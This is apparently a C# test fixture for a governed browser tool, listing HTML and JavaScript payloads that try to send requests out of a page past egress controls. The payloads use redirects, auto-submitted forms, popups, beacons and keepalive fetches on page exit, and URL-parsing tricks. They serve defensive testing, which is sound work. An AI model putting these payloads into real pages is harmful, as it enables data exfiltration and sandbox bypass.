namespace GovernedMcp.Browser.Tests.Egress.Escapes;

/// <summary>What leaves the page, or fires while it is left.</summary>
public static class Departing
{
    public static IReadOnlyList<Escape> All { get; } =
    [
        new("redirect-302", "<script>location = '/to/302/{N}'</script>", Alone: true),
        new("redirect-307-2-hops", "<script>location = '/hop/307/{N}'</script>", Alone: true),
        new("redirect-308-form-post", "<form method=post action='/to/308/{N}'><input name=a value=1></form><script>document.forms[0].submit()</script>", Alone: true),
        new("redirect-307-form-post", "<form method=post action='/to/307/{N}'><input name=a value=1></form><script>document.forms[0].submit()</script>", Alone: true),
        new("refresh-header-nav", "<script>location = '/refresh/{N}'</script>", Alone: true),
        new("meta-refresh", "<meta http-equiv=refresh content='0;url={E}'>", Alone: true),
        new("js-location", "<script>location = '{E}'</script>", Alone: true),
        new("form-get", "<form action='{E}'><input name=a value=1></form><script>document.forms[0].submit()</script>", Alone: true),
        new("form-post", "<form method=post action='{E}'><input name=a value=1></form><script>document.forms[0].submit()</script>", Alone: true),
        new("form-post-blank", "<form method=post target=_blank action='{E}'><input name=a value=1></form><script>document.forms[0].submit()</script>", Alone: true),
        new("window-open", "<script>open('{E}')</script>", Alone: true),
        new("window-open-noopener", "<script>open('{E}', '_blank', 'noopener')</script>", Alone: true),
        new("popup-chain", "<script>{ const w = open('about:blank'); w?.document.write(`<img src='{E}'>`); }</script>", Alone: true) { Told = Told.Nowhere, Real = false },
        new("blob-window", "<script>open(URL.createObjectURL(new Blob([`<img src='{E}'>`], { type: 'text/html' })))</script>", Alone: true) { Told = Told.Nowhere, Real = false },
        new("target-blank", "<a href='{E}' target=_blank id=b1>x</a><script>b1.click()</script>", Alone: true),
        new("download", "<a href='{E}' download id=d1>x</a><script>d1.click()</script>", Alone: true),
        new("download-nav", "<script>location = '{E}?file'</script>", Alone: true),
        new("https-nav", "<script>location = 'https://{AT}/e/{N}'</script>", Alone: true) { Told = Told.AsTunnel, Real = false },
        new("keepalive-unload", "<script>addEventListener('pagehide', () => fetch('{E}', { mode: 'no-cors', keepalive: true })); setTimeout(() => { location = '/blank' }, 30)</script>", Alone: true),
        new("beacon-unload", "<script>addEventListener('pagehide', () => navigator.sendBeacon('{E}', 'x')); setTimeout(() => { location = '/blank' }, 30)</script>", Alone: true),
        new("userinfo", "<script>location = 'http://127.0.0.1:{HP}@{AT}/e/{N}'</script>", Alone: true),
        new("backslash", "<script>location = 'http:\\\\\\\\{AT}\\\\e\\\\{N}'</script>", Alone: true),
    ];
}
